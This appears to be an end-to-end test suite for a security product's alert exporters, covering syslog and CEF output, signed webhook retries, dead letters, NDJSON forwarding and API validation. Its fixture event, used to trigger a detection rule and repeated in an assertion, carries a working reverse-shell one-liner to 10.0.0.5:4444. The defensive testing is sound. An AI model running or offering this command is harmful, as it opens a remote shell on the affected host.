// End-to-end exporters on a real server process: syslog over UDP, TCP and TLS (RFC 5424, CEF), signed webhooks with
// retries, dead letters for a receiver that stays down while ingest keeps its pace, and raw NDJSON forwarding that
// catches up after an outage without losing an acknowledged event.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { randomUUID } from 'node:crypto';
import net from 'node:net';
import { createCertificateAuthority, issueServerCertificate } from '@vigil/pki';
import { parseRfc5424, verifyWebhookSignature } from '@vigil/integrations';
import { parseCef, startHttpReceiver, startSyslogReceiver } from '@vigil/integrations/testing/receivers';
import { ApiClient, cleanup, request, startServer, waitFor, type ServerHandle } from './harness.js';
import { batchBody, processEvent } from './events.js';

const SECRET = 'e2e-webhook-secret-0123456789';
let server: ServerHandle;
let api: ApiClient;
let agent: { agentId: string; key: string; cert: string };
let sequence = 0;
let pid = 20_000;
let tlsIdentity: { keyPem: string; certPem: string; caPem: string };
const BASE = '/api/v1/integrations/destinations';

before(async () => {
  server = await startServer();
  api = await new ApiClient(server).login();
  agent = await api.enrollKeys();
  const ca = await createCertificateAuthority({ commonName: 'E2E receivers CA' });
  const cert = await issueServerCertificate(ca, { commonName: 'receiver', dnsNames: ['localhost'], ipAddresses: ['127.0.0.1'] });
  tlsIdentity = { keyPem: cert.keyPem, certPem: cert.certPem, caPem: ca.certPem };
});
after(cleanup);

/** A process start the built-in reverse-shell rule alerts on; a new pid makes a new alert (no grouping with earlier ones). */
function reverseShell(): Record<string, unknown> {
  const ownPid = ++pid;
  return {
    '@timestamp': new Date().toISOString(),
    'event.id': randomUUID(),
    'event.sequence': ++sequence,
    'event.category': 'process',
    'event.action': 'start',
    'host.id': agent.agentId,
    'process.pid': ownPid,
    'process.entity_id': `proc-${ownPid}`,
    'process.parent.pid': 1000,
    'process.executable': '/usr/bin/bash',
    'process.name': 'bash',
    'process.command_line': 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1',
    'process.args': ['bash', '-i'],
    'process.parent.executable': '/usr/bin/bash',
    'user.name': 'www-data',
    'user.id': '33',
  };
}

/** Posts a batch as the simulated agent; returns the acknowledgement latency in ms. */
async function post(events: Record<string, unknown>[]): Promise<number> {
  const started = performance.now();
  const reply = await request(`https://127.0.0.1:${server.agentPort}/agent/v1/events`, { raw: batchBody(agent.agentId, events), ca: server.caPem, key: agent.key, cert: agent.cert });
  const latency = performance.now() - started;
  assert.equal(reply.status, 200, JSON.stringify(reply.body));
  return latency;
}

/** The alert raised for an event; detection runs after the acknowledgement (in the detection worker), so it polls. */
async function alertFor(eventId: string): Promise<any> {
  return waitFor(`an alert for event ${eventId}`, async () => {
    const reply = await api.get(`/api/v1/alerts?host_id=${agent.agentId}&limit=10000`);
    assert.equal(reply.status, 200);
    return (reply.body as any[]).find((a) => a.eventIds.includes(eventId));
  });
}

async function createDestination(body: Record<string, unknown>): Promise<any> {
  const reply = await api.post(BASE, body);
  assert.equal(reply.status, 201, JSON.stringify(reply.body));
  return reply.body;
}

async function status(id: string): Promise<any> {
  const reply = await api.get(`${BASE}/${id}/status`);
  assert.equal(reply.status, 200, JSON.stringify(reply.body));
  return reply.body;
}

async function remove(id: string): Promise<void> {
  const reply = await request(`${server.apiUrl}${BASE}/${id}`, { method: 'DELETE', token: api.token, ca: server.caPem });
  assert.equal(reply.status, 200, JSON.stringify(reply.body));
}

/** A loopback port with nothing listening (bound, then released). */
async function unusedPort(): Promise<number> {
  const probe = net.createServer();
  await new Promise<void>((resolve) => probe.listen(0, '127.0.0.1', () => resolve()));
  const port = (probe.address() as net.AddressInfo).port;
  await new Promise<void>((resolve) => probe.close(() => resolve()));
  return port;
}

const median = (values: number[]) => [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)]!;

test('an alert reaches syslog receivers over UDP, TCP and TLS as valid RFC 5424, with correct CEF fields on the CEF one', async () => {
  const udp = await startSyslogReceiver('udp');
  const tcp = await startSyslogReceiver('tcp');
  const tls = await startSyslogReceiver('tls', tlsIdentity);
  try {
    const destinations = [
      await createDestination({ name: 'syslog-udp', kind: 'syslog', settings: { host: '127.0.0.1', port: udp.port, transport: 'udp', format: 'rfc5424' } }),
      await createDestination({ name: 'syslog-tcp-cef', kind: 'syslog', settings: { host: '127.0.0.1', port: tcp.port, transport: 'tcp', format: 'cef' }, filters: { min_level: 'medium' } }),
      await createDestination({ name: 'syslog-tls', kind: 'syslog', settings: { host: '127.0.0.1', port: tls.port, transport: 'tls', format: 'rfc5424', ca_pem: tlsIdentity.caPem } }),
    ];
    const event = reverseShell();
    await post([event]);
    const alert = await alertFor(event['event.id'] as string);

    for (const receiver of [udp, tls]) {
      const message = await waitFor('an RFC 5424 message', () => receiver.messages.find((m) => m.toString('utf8').includes(alert.id)));
      const parsed = parseRfc5424(message);
      assert.equal(parsed.appName, 'vigil');
      assert.equal(parsed.msgId, 'alert');
      assert.equal(parsed.severity, alert.level === 'critical' ? 2 : 3);
      const sd = Object.fromEntries(parsed.structuredData[0]!.params);
      assert.equal(sd.alert_id, alert.id);
      assert.equal(sd.rule_id, alert.ruleId);
      assert.equal(JSON.parse(parsed.msg).ruleTitle, alert.ruleTitle);
    }
    const cefMessage = await waitFor('a CEF message', () => tcp.messages.find((m) => m.toString('utf8').includes(alert.id)));
    const cef = parseCef(parseRfc5424(cefMessage).msg);
    assert.equal(cef.vendor, 'Vigil');
    assert.equal(cef.signatureId, alert.ruleId);
    assert.equal(cef.name, alert.ruleTitle);
    assert.equal(cef.severity, alert.level === 'critical' ? '10' : '8');
    assert.equal(cef.extension.externalId, alert.id);
    assert.equal(cef.extension.cs2, agent.agentId);
    assert.equal(cef.extension.cs4, 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1');
    assert.deepEqual([udp.errors, tcp.errors, tls.errors], [[], [], []]);

    await waitFor('status to count the deliveries', async () => (await Promise.all(destinations.map((d) => status(d.id)))).every((s) => s.sent >= 1 && s.pending === 0));
    const test = await api.post(`${BASE}/${destinations[0].id}/test`, {});
    assert.equal(test.status, 200, JSON.stringify(test.body));
    assert.equal(test.body.delivered, true);
    parseRfc5424(await waitFor('the test message', () => udp.messages.find((m) => m.toString('utf8').includes('vigil-test'))));
    for (const d of destinations) await remove(d.id);
  } finally {
    await Promise.all([udp.stop(), tcp.stop(), tls.stop()]);
  }
});

test('a webhook that fails the first 3 deliveries gets signed retries, then the delivery succeeds and status shows it', async () => {
  const receiver = await startHttpReceiver({ tlsIdentity, answer: (_, index) => (index < 3 ? 500 : 200) });
  try {
    const destination = await createDestination({
      name: 'flaky-webhook',
      kind: 'webhook',
      settings: { url: receiver.url, secret: SECRET, ca_pem: tlsIdentity.caPem },
      retry: { initial_backoff_ms: 100, max_backoff_ms: 400 },
    });
    const shown = await api.get(`${BASE}/${destination.id}`);
    assert.equal(shown.body.settings.secret_set, true);
    assert.ok(!JSON.stringify(shown.body).includes(SECRET) && !JSON.stringify(destination).includes(SECRET));

    const event = reverseShell();
    await post([event]);
    const alert = await alertFor(event['event.id'] as string);
    await waitFor('four webhook requests', () => receiver.requests.length >= 4, 20_000);
    for (const delivery of receiver.requests.slice(0, 4)) {
      const check = verifyWebhookSignature({ secret: SECRET, body: delivery.body, timestamp: delivery.headers['x-vigil-timestamp'] as string, signature: delivery.headers['x-vigil-signature'] as string });
      assert.deepEqual(check, { valid: true });
      assert.deepEqual(JSON.parse(delivery.body.toString('utf8')).records.map((r: any) => r.alert.id), [alert.id]);
    }
    const final = await waitFor('status to show the success', async () => {
      const s = await status(destination.id);
      return s.sent === 1 && s.pending === 0 ? s : undefined;
    });
    assert.equal(final.failed_attempts, 3);
    assert.equal(final.dead, 0);
    assert.equal(final.consecutive_failures, 0);
    assert.match(final.last_error, /answered 500/);
    assert.ok(final.last_success_at);
    await remove(destination.id);
  } finally {
    await receiver.stop();
  }
});

test('a receiver that is down for good ends in the dead-letter list while ingest keeps its acknowledgement latency', async () => {
  const batch = () => [reverseShell(), ...Array.from({ length: 200 }, () => processEvent(agent.agentId, ++sequence, 'load'))];
  for (let i = 0; i < 3; i++) await post(batch());
  const baseline: number[] = [];
  let lastBeforeDestination: Record<string, unknown>[] = [];
  for (let i = 0; i < 25; i++) baseline.push(await post((lastBeforeDestination = batch())));
  // Alerts are raised after the acknowledgement: the destination must only see the 26 alerts created after it exists.
  await alertFor(lastBeforeDestination[0]!['event.id'] as string);

  const destination = await createDestination({
    name: 'dead-webhook',
    kind: 'webhook',
    settings: { url: `http://127.0.0.1:${await unusedPort()}/hook`, secret: SECRET, timeout_ms: 1000 },
    retry: { max_attempts: 3, initial_backoff_ms: 20, max_backoff_ms: 100 },
  });
  const first = reverseShell();
  await post([first]);
  const firstAlert = await alertFor(first['event.id'] as string);
  const during: number[] = [];
  for (let i = 0; i < 25; i++) during.push(await post(batch()));
  const failing = await status(destination.id);
  assert.ok(failing.failed_attempts >= 3, JSON.stringify(failing));
  assert.ok(median(during) <= median(baseline) * 4, `median acknowledgement ${median(during).toFixed(1)} ms while failing vs ${median(baseline).toFixed(1)} ms baseline`);

  const dead = await waitFor('the first alert in the dead-letter list', async () => {
    const reply = await api.get(`${BASE}/${destination.id}/dead-letters?limit=10000`);
    return reply.body.dead_letters.find((d: any) => d.record.alert.id === firstAlert.id);
  }, 20_000);
  assert.equal(dead.attempts, 3);
  assert.match(dead.last_error, /could not be reached|ECONNREFUSED/);
  const settled = await waitFor('every delivery to die', async () => {
    const s = await status(destination.id);
    return s.pending === 0 ? s : undefined;
  }, 20_000);
  assert.equal(settled.dead, 26);
  assert.equal(settled.sent, 0);

  const retried = await api.post(`${BASE}/${destination.id}/dead-letters/retry`, { ids: [dead.id] });
  assert.equal(retried.status, 200, JSON.stringify(retried.body));
  assert.equal(retried.body.requeued, 1);
  const again = await waitFor('the retried delivery to die again', async () => {
    const reply = await api.get(`${BASE}/${destination.id}/dead-letters?limit=10000`);
    return reply.body.dead_letters.find((d: any) => d.record.alert.id === firstAlert.id && d.id !== dead.id);
  }, 20_000);
  assert.equal(again.attempts, 3);
  const audit = await api.get('/api/v1/audit?limit=1000');
  assert.equal(audit.status, 200);
  const actions = (audit.body as { action: string; target: string }[]).filter((entry) => entry.target === destination.id).map((entry) => entry.action);
  assert.ok(actions.includes('integration.create') && actions.includes('integration.dead_letters.retry'), JSON.stringify(actions));
  await remove(destination.id);
});

test('raw events forwarded as NDJSON to a receiver that is down, then up, arrive complete and in ingest order', async () => {
  const port = await unusedPort();
  const destination = await createDestination({
    name: 'siem-ndjson',
    kind: 'http-ndjson',
    stream: 'events',
    settings: { url: `http://127.0.0.1:${port}/ingest`, authorization: 'Bearer siem-token', timeout_ms: 2000 },
    filters: { categories: ['process'] },
    retry: { initial_backoff_ms: 100, max_backoff_ms: 500 },
    batch_size: 50,
  });
  const acknowledged: string[] = [];
  for (let i = 0; i < 10; i++) {
    const events = Array.from({ length: 20 }, () => processEvent(agent.agentId, ++sequence, `raw-${i}`));
    await post(events);
    acknowledged.push(...events.map((e) => e['event.id'] as string));
  }
  await waitFor('the forwarder to fail against the closed port', async () => (await status(destination.id)).failed_attempts >= 1 || undefined, 20_000);
  const receiver = await startHttpReceiver({ port });
  try {
    const lines = () => receiver.requests.flatMap((r) => r.body.toString('utf8').split('\n').filter(Boolean).map((line) => JSON.parse(line) as Record<string, string>));
    await waitFor('every acknowledged event at the receiver', () => {
      const seen = new Set(lines().map((l) => l['event.id']));
      return acknowledged.every((id) => seen.has(id));
    }, 30_000);
    assert.equal(receiver.requests[0]!.headers.authorization, 'Bearer siem-token');
    assert.equal(receiver.requests[0]!.headers['content-type'], 'application/x-ndjson');
    const firstSeen: Record<string, string>[] = [];
    const ids = new Set<string>();
    for (const line of lines()) if (!ids.has(line['event.id']!)) (ids.add(line['event.id']!), firstSeen.push(line));
    for (let i = 1; i < firstSeen.length; i++) {
      const [a, b] = [firstSeen[i - 1]!, firstSeen[i]!];
      assert.ok(a['event.ingested']! < b['event.ingested']! || (a['event.ingested'] === b['event.ingested'] && a['event.id']! < b['event.id']!), `out of ingest order at ${i}`);
    }
    assert.ok(firstSeen.every((l) => l['event.category'] === 'process'));
    const s = await status(destination.id);
    // The cursor keeps microseconds; forwarded events carry milliseconds.
    assert.ok(s.cursor && s.cursor.ingested.slice(0, 23) >= firstSeen[firstSeen.length - 1]!['event.ingested']!.slice(0, 23));
    assert.equal(s.consecutive_failures, 0);
  } finally {
    await receiver.stop();
    await remove(destination.id);
  }
});

test('destination input is validated and reads need the integrations permissions', async () => {
  const bad = await api.post(BASE, { name: 'x', kind: 'webhook', settings: { url: 'ftp://example.com', secret: SECRET } });
  assert.equal(bad.status, 400);
  const noSecret = await api.post(BASE, { name: 'y', kind: 'webhook', settings: { url: 'https://example.com/h' } });
  assert.equal(noSecret.status, 400);
  assert.equal(noSecret.body.error.location.path, 'settings.secret');
  const category = await api.post(BASE, { name: 'z', kind: 'http-ndjson', stream: 'events', settings: { url: 'https://example.com/h' }, filters: { categories: ['nope'] } });
  assert.equal(category.status, 400);
  const anonymous = await request(`${server.apiUrl}${BASE}`, { ca: server.caPem });
  assert.equal(anonymous.status, 401);
});

test('every integrations route is in the OpenAPI document with tags, summary, description and a 2xx example', async () => {
  const reply = await request(`${server.apiUrl}/api/v1/openapi.json`, { ca: server.caPem });
  assert.equal(reply.status, 200);
  const problems: string[] = [];
  const found: string[] = [];
  for (const [path, item] of Object.entries(reply.body.paths as Record<string, Record<string, any>>)) {
    if (!path.startsWith(BASE)) continue;
    for (const [method, op] of Object.entries(item)) {
      found.push(`${method.toUpperCase()} ${path}`);
      if (!op.tags?.includes('integrations') || !op.summary || !op.description) problems.push(`${method} ${path}: tags, summary or description missing`);
      const success = Object.entries(op.responses ?? {}).find(([code]) => code.startsWith('2'))?.[1] as any;
      const media = success?.content?.['application/json'];
      if (!media?.schema || (media.example === undefined && media.examples === undefined && media.schema.example === undefined)) problems.push(`${method} ${path}: no 2xx schema with an example`);
    }
  }
  assert.deepEqual(problems, []);
  assert.equal(found.length, 9, found.join(', '));
});
